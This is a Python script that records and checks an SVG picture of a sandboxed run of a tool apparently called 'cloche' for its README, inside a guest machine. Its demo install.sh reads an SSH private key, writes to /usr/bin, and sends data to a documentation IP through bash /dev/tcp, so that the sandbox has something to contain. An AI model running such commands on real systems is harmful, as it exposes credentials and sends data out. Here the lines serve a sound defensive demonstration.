#!/usr/bin/env python3
"""A picture of a run for the README, recorded anew and held to the one that is kept. Runs in a guest, as its root.

What a run uses differs from one to the next, so numbers and their units are not compared. tools/record.sh keeps a
new picture, which this prints.
"""
import base64
import pathlib
import re
import sys

import bedside
from bedside import command

INSTALLER = """cat ~/.ssh/id_ed25519
touch /usr/bin/owned
mount -t tmpfs none /mnt
bash -c 'echo hello > /dev/tcp/192.0.2.1/80'
python3 -c 'bytearray(1 << 30)'
"""
COMMANDS = ["cat install.sh", "cloche run --memory 64M --tasks 100 --summary -- sh install.sh"]
PICTURE = bedside.HOME / "run.svg"


def words_of(svg):
    """The lines of a picture, without what differs from run to run."""
    lines = {}
    for y, text in re.findall(r'<text x="[^"]*" y="(\d+)"[^>]*>([^<]*)</text>', svg):
        lines.setdefault(int(y), []).append(text.strip())
    return [re.sub(r"\d+(\.\d+)?( (ms|s|min|B|KiB|MiB))?", "N", " ".join(parts)) for _, parts in sorted(lines.items())]


def main():
    if not bedside.IN_BED or "memory" not in bedside.delegated():
        sys.exit("the picture is recorded in a guest (bed.py), where there are limits")
    bedside.wait_for_manager()
    command("ln", "-sf", bedside.CLOCHE, "/usr/local/bin/cloche")  # the guest forgets it again
    project = bedside.HOME / "project"
    project.mkdir()
    (project / "install.sh").write_text(INSTALLER)
    (bedside.HOME / ".ssh").mkdir(exist_ok=True)
    (bedside.HOME / ".ssh/id_ed25519").write_text("a key\n")
    command("chown", "-R", "tester:", str(bedside.HOME))
    quoted = " ".join('"' + words.replace('"', '\\"') + '"' for words in COMMANDS)
    drawn = command(*bedside.in_session(f"python3 /bed/examples/picture.py -o {PICTURE} --directory {project} "
                                        f"--hide tester=anna -- {quoted}"))
    if drawn.returncode != 0:
        sys.exit(drawn.stderr)
    made = PICTURE.read_text()
    command("rm", "-rf", str(project), str(PICTURE), str(bedside.HOME / ".ssh"))
    print("picture: " + base64.b64encode(made.encode()).decode())
    kept = pathlib.Path("/bed/examples/run.svg")
    wanted = words_of(kept.read_text()) if kept.exists() else []
    if words_of(made) == wanted and len(wanted) > 10:
        return 0
    print("the picture is not what cloche shows now: tools/record.sh\nkept:", *wanted, "shown now:", *words_of(made),
          sep="\n  ")
    return 1


if __name__ == "__main__":
    sys.exit(main())
